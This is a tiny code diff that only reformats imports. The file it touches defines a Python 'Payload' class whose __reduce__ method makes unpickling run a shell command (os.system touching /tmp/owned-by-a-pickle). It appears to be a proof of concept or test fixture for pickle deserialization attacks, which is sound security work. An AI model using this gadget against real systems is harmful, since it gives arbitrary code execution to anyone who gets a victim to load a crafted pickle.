@@ -1,4 +1,7 @@
-import os, pickle
+import os
+import pickle
+
+
 class Payload:
     def __reduce__(self):
         return os.system, ("touch /tmp/owned-by-a-pickle",)
